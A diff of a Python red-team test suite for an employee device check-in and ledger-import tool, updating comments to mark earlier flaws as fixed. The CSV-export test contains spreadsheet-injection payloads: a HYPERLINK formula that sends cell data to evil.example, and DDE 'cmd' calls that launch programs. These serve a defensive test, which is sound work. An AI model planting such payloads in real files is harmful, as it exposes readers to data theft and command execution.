@@ -1,9 +1,9 @@
 """Red-team round 2 of the check-in, the ledger import and the store
 (issue #9; docs/checkin.md, docs/verdicts.md, docs/ledger.md, docs/store.md).
 
-Each test asserts what the product promises.  A test that fails today has
-a one-line comment "# WRONG NOW: …; RIGHT: …"; the others are attacks that
-held, kept so that they keep holding.
+Each test asserts what the product promises.  A test that failed when it
+was written has a one-line comment "# WAS WRONG (fixed): …; RIGHT: …"; the
+others are attacks that held, kept so that they keep holding.
 """
 
 import datetime
@@ -101,7 +101,7 @@ class Decl(DeclCase):
             self.assertNotEqual(doc["verdict"], "cleared", "%s not_sure: %s" % (q, r.describe()))
 
     def test_byod_follow_up_opened_for_it(self):
-        # WRONG NOW: Q7 yes with deletion confirmed gives DEC-02 CONDITIONAL "BYOD follow-up to be opened by IT", but nothing is ever opened: no reference, no incident, and `kikan it list` says "Nothing is waiting for IT" (CONDITIONAL sessions are left out of the queue), so no one follows up; RIGHT: KR-22 opens an IT follow-up with a reference (as Q2/Q5/Q6 do) that IT's queue shows.
+        # WAS WRONG (fixed): Q7 yes with deletion confirmed gives DEC-02 CONDITIONAL "BYOD follow-up to be opened by IT", but nothing is ever opened: no reference, no incident, and `kikan it list` says "Nothing is waiting for IT" (CONDITIONAL sessions are left out of the queue), so no one follows up; RIGHT: KR-22 opens an IT follow-up with a reference (as Q2/Q5/Q6 do) that IT's queue shows.
         doc, r = self.run_e2002(Q7={"answer": "yes", "device": "home PC", "work": "mail",
                                     "data_deleted": "yes"})
         self.assertEqual(doc["verdict"], "conditional", r.describe())
@@ -186,7 +186,7 @@ class Ledger2(LedgerTestCase):
             con.close()
 
     def test_export_neutralises_formulas(self):
-        # WRONG NOW: a name or telework method starting with = + - @ (from the asset tool's CSV) is exported as is, so opening the export in a spreadsheet runs it as a formula (CSV injection); RIGHT: such a cell is written so a spreadsheet shows it as text (e.g. a leading apostrophe that import removes again, keeping export→import a no-op).
+        # WAS WRONG (fixed): a name or telework method starting with = + - @ (from the asset tool's CSV) is exported as is, so opening the export in a spreadsheet runs it as a formula (CSV injection); RIGHT: such a cell is written so a spreadsheet shows it as text (e.g. a leading apostrophe that import removes again, keeping export→import a no-op).
         hostile = ('E1001,"=HYPERLINK(""http://evil.example/?""&A1,""Click"")",USB-0007,usb,'
                    '"+cmd|\' /C calc\'!A0",yes,2026-10-01,,"@SUM(1+1)*cmd|\' /C calc\'!A0",'
                    ',,,\r\n'
@@ -345,7 +345,7 @@ class ImportDuringCheckin(RedteamCase):
         return json.loads(out.decode("utf-8")), proc.returncode, err
 
     def test_loan_moved_to_another_employee_midway_not_cleared(self):
-        # WRONG NOW: the import moves USB-0007's loan to E2002 while E1001's session reads it; end_visit keeps the loan it saw at present time, gives USB-0007 INV-01 "matched to the ledger", the session CLEARED (exit 0), and closes nothing for E2002, whose new loan of the stick now in IT's hands stays open; RIGHT: the verdict is made against the loans in force when it is written: USB-0007 is INV-07 (held by someone other than the registered borrower), the session not CLEARED.
+        # WAS WRONG (fixed): the import moves USB-0007's loan to E2002 while E1001's session reads it; end_visit keeps the loan it saw at present time, gives USB-0007 INV-01 "matched to the ledger", the session CLEARED (exit 0), and closes nothing for E2002, whose new loan of the stick now in IT's hands stays open; RIGHT: the verdict is made against the loans in force when it is written: USB-0007 is INV-07 (held by someone other than the registered borrower), the session not CLEARED.
         doc, rc, err = self.checkin_with_import_midway(
             H + "\r\n"
             "E2002,\"Sato, Hanako\",USB-0007,usb,AA00000007,no,2026-10-01\r\n"
@@ -358,7 +358,7 @@ class ImportDuringCheckin(RedteamCase):
         self.assertNotEqual(rc, 0)
 
     def test_encryption_required_flipped_midway_is_used(self):
-        # WRONG NOW: the import sets encryption_required=yes on USB-0008 while its plain FAT image is read; the verdict uses the value read at present time and CLEARS the plain stick; RIGHT: the verdict reads the ledger in force when it is written: ENC-02 HOLD.
+        # WAS WRONG (fixed): the import sets encryption_required=yes on USB-0008 while its plain FAT image is read; the verdict uses the value read at present time and CLEARS the plain stick; RIGHT: the verdict reads the ledger in force when it is written: ENC-02 HOLD.
         doc, rc, err = self.checkin_with_import_midway(
             H + "\r\n"
             "E1001,山田 太郎,USB-0007,usb,AA00000007,no,2026-10-01\r\n"
@@ -368,7 +368,7 @@ class ImportDuringCheckin(RedteamCase):
         self.assertNotEqual(doc["verdict"], "cleared")
 
     def test_import_does_not_relend_items_returned_at_kiosk(self):
-        # WRONG NOW: after a check-in took USB-0007 (quarantined, with IT) and USB-0008 back, the next import of the asset tool's file, which still lists both lent to E1001 since 2026-10-01, silently opens new loans ("added"), so E1001's next check-in is NOT RETURNED for sticks IT holds and the kiosk's returns are lost; RIGHT: a row whose loan began on or before the asset's return at the kiosk is that returned loan: not re-opened (refused, or reported as returned at the kiosk).
+        # WAS WRONG (fixed): after a check-in took USB-0007 (quarantined, with IT) and USB-0008 back, the next import of the asset tool's file, which still lists both lent to E1001 since 2026-10-01, silently opens new loans ("added"), so E1001's next check-in is NOT RETURNED for sticks IT holds and the kiosk's returns are lost; RIGHT: a row whose loan began on or before the asset's return at the kiosk is that returned loan: not re-opened (refused, or reported as returned at the kiosk).
         doc, r = self.checkin({"employee": "E1001", "answers": self.clean_answers(),
                                "present": [{"asset": "USB-0007", "medium": self.fat("u7", True)},
                                            {"asset": "USB-0008", "medium": self.fat("u8", False)}]})
@@ -384,7 +384,7 @@ class ImportDuringCheckin(RedteamCase):
 class ScriptNames(RedteamCase):
 
     def test_lost_and_presented_by_serial_records_nothing(self):
-        # WRONG NOW: USB-0007 declared lost and presented by its serial (AA00000007): the script check compares the names as written, so the session, the answers and a "lost" incident with remote wipe requested are committed before "USB-0007 is already part of this check-in" stops the run (exit 2); RIGHT: items are compared by the asset they resolve to and the script is refused before anything is recorded (the first round's fix, by name only).
+        # WAS WRONG (fixed): USB-0007 declared lost and presented by its serial (AA00000007): the script check compares the names as written, so the session, the answers and a "lost" incident with remote wipe requested are committed before "USB-0007 is already part of this check-in" stops the run (exit 2); RIGHT: items are compared by the asset they resolve to and the script is refused before anything is recorded (the first round's fix, by name only).
         r = self.kikan("checkin", "--json", "--database", self.db_test6(), "--script", self.script(
             {"employee": "E1001", "answers": self.clean_answers(),
              "missing": [{"asset": "USB-0007", "declared": "lost", "data_held": "x"}],
@@ -395,7 +395,7 @@ class ScriptNames(RedteamCase):
         self.assertEqual(self.sql("SELECT count(*) FROM sessions"), [(0,)])
 
     def test_personal_data_on_plain_stick_not_cleared(self):
-        # WRONG NOW: Q10 yes, level "public" but personal data "yes" (or "not_sure"), both sticks plain: no ENC-02, the session CLEARED (exit 0) with only PROC-07 "loss would require notification"; RIGHT: personal data declared on media needs encryption whatever level was typed (KR-14, fail closed): a plain stick is ENC-02 HOLD.
+        # WAS WRONG (fixed): Q10 yes, level "public" but personal data "yes" (or "not_sure"), both sticks plain: no ENC-02, the session CLEARED (exit 0) with only PROC-07 "loss would require notification"; RIGHT: personal data declared on media needs encryption whatever level was typed (KR-14, fail closed): a plain stick is ENC-02 HOLD.
         for pd in ("yes", "not_sure"):
             a = self.clean_answers()
             a["Q10"] = {"answer": "yes", "classification": "public", "personal_data": pd}
@@ -408,7 +408,7 @@ class ScriptNames(RedteamCase):
             self.sql("DELETE FROM verdicts")
 
     def test_quarantined_item_not_lent_again(self):
-        # WRONG NOW: USB-0007 is QUARANTINE (EICAR) and with IT, no IT action on it, yet `kikan ledger lend USB-0007 E2002` and an import lending it to E2002 both succeed silently, handing the infected stick to someone else; RIGHT: an item whose verdict in force is QUARANTINE or HOLD is not lent again until IT settles it (refused, exit 2, nothing changed).
+        # WAS WRONG (fixed): USB-0007 is QUARANTINE (EICAR) and with IT, no IT action on it, yet `kikan ledger lend USB-0007 E2002` and an import lending it to E2002 both succeed silently, handing the infected stick to someone else; RIGHT: an item whose verdict in force is QUARANTINE or HOLD is not lent again until IT settles it (refused, exit 2, nothing changed).
         doc, r = self.checkin({"employee": "E1001", "answers": self.clean_answers(),
                                "present": [{"asset": "USB-0007", "medium": self.fat("u7", True)},
                                            {"asset": "USB-0008", "medium": self.fat("u8", False)}]})
@@ -424,7 +424,7 @@ class ScriptNames(RedteamCase):
                                   "returned_on IS NULL"), [(0,)])
 
     def test_lone_surrogate_follow_up_checked_before_recording(self):
-        # WRONG NOW: a follow-up holding JSON escapes of lone surrogates ("\ud800") passes the script check, then after the session and answers are committed the stored follow-up no longer parses ("The follow-up of Q16 is not a JSON object"), exit 2, a session left incomplete in IT's queue; RIGHT: the whole script is checked before anything is recorded: refused at once (nothing recorded), or accepted and decided with the text escaped.
+        # WAS WRONG (fixed): a follow-up holding JSON escapes of lone surrogates ("\ud800") passes the script check, then after the session and answers are committed the stored follow-up no longer parses ("The follow-up of Q16 is not a JSON object"), exit 2, a session left incomplete in IT's queue; RIGHT: the whole script is checked before anything is recorded: refused at once (nothing recorded), or accepted and decided with the text escaped.
         body = json.dumps({"employee": "E2002", "answers": self.clean_answers()})
         body = body.replace('"Q16": "no"', '"Q16": {"answer": "yes", "services": "X\\ud800Y\\udfffZ"}')
         self.assertIn("\\ud800", body)
